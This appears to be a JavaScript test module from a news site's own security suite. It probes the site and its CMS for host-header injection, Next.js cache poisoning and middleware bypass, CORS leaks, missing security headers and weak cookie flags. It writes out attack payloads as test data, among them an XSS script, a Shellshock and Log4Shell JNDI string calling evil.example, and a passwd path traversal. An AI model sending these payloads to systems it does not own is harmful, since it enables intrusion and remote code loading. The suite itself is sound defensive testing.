import { ask } from '../ask.mjs';
import { pairs } from '../group.mjs';
import { leak } from '../verdicts.mjs';
import { leadsAway } from './paths.mjs';

const PAGES = [
  '/',
  '/fr',
  '/fr/',
  '/fr/actualites/le-pont-est-ouvert',
  '/fr/actualites/le-pont-est-ouvert/',
  '/fr/accords/index',
  '/fr/actualites/page/1',
  '/fr/no-such',
  '/fr/recherche?q=pont',
  '/sitemap.xml',
  '/robots.txt',
  '/fr/actualites/feed.rss',
  '/oembed?url=https%3A%2F%2Fevil.example%2F',
  '/embed/fr/news',
];

const EVIL = 'evil.example';
/** By which a server may be told that it is called something else, or asked for something else. */
const CLAIMS = {
  Host: { host: EVIL },
  'Host with a port': { host: `${EVIL}:80` },
  'Host with a path': { host: `127.0.0.1/${EVIL}` },
  'X-Forwarded-Host': { 'x-forwarded-host': EVIL },
  'X-Forwarded-Server': { 'x-forwarded-server': EVIL },
  'X-Host': { 'x-host': EVIL },
  Forwarded: { forwarded: `host=${EVIL};proto=https` },
  'X-Forwarded-Proto': { 'x-forwarded-proto': EVIL },
  'X-Forwarded-Port': { 'x-forwarded-port': '8443' },
  'X-Forwarded-Prefix': { 'x-forwarded-prefix': `/${EVIL}` },
  'X-Forwarded-For': { 'x-forwarded-for': `127.0.0.1, ${EVIL}` },
  'X-Original-URL': { 'x-original-url': '/metrics' },
  'X-Rewrite-URL': { 'x-rewrite-url': '/metrics' },
  'X-HTTP-Method-Override': { 'x-http-method-override': 'DELETE' },
  Referer: { referer: `https://${EVIL}/"><script>alert(1)</script>` },
  'User-Agent': { 'user-agent': '() { :; }; echo evil.example ${jndi:ldap://evil.example/a}' },
  'Accept-Language': { 'accept-language': `${EVIL}, ../../../etc/passwd;q=0.9` },
  Cookie: { cookie: `__prerender_bypass=x; __next_preview_data=y; lang=${EVIL}` },
};

/** By which Next, or a cache before it, is told to answer something else at the same address. */
const POISONS = {
  'x-nextjs-data': { 'x-nextjs-data': '1' },
  rsc: { rsc: '1', 'next-router-state-tree': '%5B%22%22%5D' },
  'x-middleware-subrequest': {
    'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware',
  },
  'x-middleware-prefetch': { 'x-middleware-prefetch': '1' },
  'x-middleware-rewrite': { 'x-middleware-rewrite': '/metrics' },
  'x-invoke-path': { 'x-invoke-path': '/metrics' },
  'x-invoke-status': { 'x-invoke-status': '404', 'x-invoke-error': '{"message":"evil.example"}' },
  'x-matched-path': { 'x-matched-path': '/metrics' },
  'x-now-route-matches': { 'x-now-route-matches': '1=evil.example' },
  'x-prerender-revalidate': { 'x-prerender-revalidate': 'x' },
  'next-action': { 'next-action': 'a'.repeat(40) },
  purpose: { purpose: 'prefetch' },
  'an odd Accept': { accept: 'application/evil.example' },
  'an odd Accept-Encoding': { 'accept-encoding': 'evil.example, br;q=0, *;q=0.1' },
  'an odd Range': { range: 'bytes=0-0,0-0,0-0,99999999999-' },
  'If-None-Match': { 'if-none-match': `${'"x",'.repeat(500)}"evil.example"` },
  'a long header': { 'x-long': 'x'.repeat(7_000) },
};

const QUERIES = [
  'utm_source=evil.example',
  'x=<script>evil.example</script>',
  '__nextDataReq=1',
  '_rsc=1',
  'locale=en',
  'path=metrics',
  'amp=1',
  'callback=evil.example',
  'preview=1&draft=1',
  'nxtPlocale=en&nxtIlocale=en',
];

const says = (word) => (answer) =>
  `${answer.text}${JSON.stringify(answer.headers)}`.includes(word) ? `repeats ${word}` : null;

/** What every answer of the site carries. */
const SECURITY_HEADERS = {
  'content-security-policy': /(?:default-src|sandbox)/,
  'x-content-type-options': /^nosniff$/,
  'referrer-policy': /^strict-origin-when-cross-origin$/,
  'x-powered-by': null,
  server: null,
  'set-cookie': null,
  'access-control-allow-credentials': null,
};

/** What a header of a request may change: nothing of the answer that the next visitor gets. */
export const headers = {
  name: 'headers',
  width: 2,
  cases: ({ site, cms, newsroom }) => {
    const plain = new Map();
    const before = async (path) => {
      if (!plain.has(path)) plain.set(path, await ask(site, path));
      return plain.get(path);
    };
    const same = async (path) => {
      const first = await before(path);
      const now = await ask(site, path);
      if (first.status !== now.status) return `the next visitor gets ${now.status}`;
      return first.text === now.text ? null : 'the next visitor gets something else';
    };
    const claimed = pairs(PAGES, Object.entries(CLAIMS)).map(([path, [name, sent]]) => ({
      name: `${path} with ${name}`,
      attack: async () => {
        await before(path);
        const answer = await ask(site, path, { headers: sent });
        const isAsked = path.includes(encodeURIComponent(EVIL)) || path.includes(EVIL);
        return (
          leak(answer) ??
          leadsAway(site, answer) ??
          (isAsked ? null : says(EVIL)(answer)) ??
          same(path)
        );
      },
    }));
    const poisoned = pairs(PAGES.slice(1, 8), Object.entries(POISONS)).map(
      ([path, [name, sent]]) => ({
        name: `${path} with ${name}`,
        attack: async () => {
          await before(path);
          const answer = await ask(site, path, { headers: sent });
          if (/^# (HELP|TYPE)/m.test(answer.text)) return 'gives the metrics';
          return leak(answer) ?? says(EVIL)(answer) ?? same(path);
        },
      }),
    );
    const queried = pairs(PAGES.slice(1, 8), QUERIES).map(([path, query]) => ({
      name: `${path} with ?${query}`,
      attack: async () => {
        await before(path);
        const answer = await ask(site, `${path}?${query}`);
        const first = await before(path);
        if (answer.status < 300 && answer.text !== first.text) return 'answers something else';
        // A redirect keeps the question for the page itself.
        const isRepeated = answer.status >= 300 && answer.status < 400 ? null : says(EVIL)(answer);
        return leak(answer) ?? leadsAway(site, answer) ?? isRepeated ?? same(path);
      },
    }));
    const carried = pairs(PAGES, Object.entries(SECURITY_HEADERS)).map(
      ([path, [name, pattern]]) => ({
        name: `${path} and ${name}`,
        attack: async () => {
          const { status, headers: received } = await ask(site, path);
          const value = received[name];
          if (pattern === null) return value === undefined ? null : `carries ${name}: ${value}`;
          // Next's own redirects of one line carry no policy; there is nothing in them.
          if (status >= 300 && status < 400) return null;
          return pattern.test(String(value ?? '')) ? null : `carries ${name}: ${value}`;
        },
      }),
    );
    const origins = [
      'https://evil.example',
      'null',
      'http://127.0.0.1.evil.example',
      `${site}.evil.example`,
      'file://',
    ];
    const doors = [
      '/admin/init',
      '/graphql',
      '/admin/login',
      '/admin/users/me',
      '/uploads/x.webp',
      '/content-manager/init',
      '/entente/changes',
    ];
    const crossed = pairs(origins, doors).flatMap(([origin, path]) =>
      ['GET', 'OPTIONS'].map((method) => ({
        name: `${method} ${path} from ${origin}`,
        attack: async () => {
          const asked = {
            'access-control-request-method': 'POST',
            'access-control-request-headers': 'authorization',
          };
          const answer = await ask(cms, path, {
            method,
            headers: { origin, ...asked, ...newsroom.people.author.headers },
          });
          const allowed = answer.headers['access-control-allow-origin'];
          if (allowed === '*' || allowed === origin) return `lets ${allowed} read`;
          return answer.headers['access-control-allow-credentials'] === 'true' && allowed
            ? 'with credentials'
            : null;
        },
      })),
    );
    const methods = ['POST', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'OPTIONS'];
    const written = pairs(PAGES.slice(1), methods).map(([path, method]) => ({
      name: `${method} ${path}`,
      attack: async () => {
        const answer = await ask(site, path, {
          method,
          headers: { 'x-secret': EVIL },
          ...(method !== 'OPTIONS' && { body: 'x=1' }),
        });
        const problem = leak(answer) ?? leadsAway(site, answer);
        if (problem) return problem;
        return method === 'TRACE' && says(EVIL)(answer) ? 'repeats what it was sent' : same(path);
      },
    }));
    const cookies = ['/admin', '/admin/init', '/admin/login', '/graphql', '/uploads/x'].map(
      (path) => ({
        name: `cookies of ${path}`,
        attack: async () => {
          const { headers: received } = await ask(cms, path);
          const loose = (received['set-cookie'] ?? []).filter(
            (one) => !/httponly/i.test(one) || !/samesite/i.test(one),
          );
          return loose.length > 0 ? `sets ${loose}` : null;
        },
      }),
    );
    return [...claimed, ...poisoned, ...queried, ...carried, ...crossed, ...written, ...cookies];
  },
};
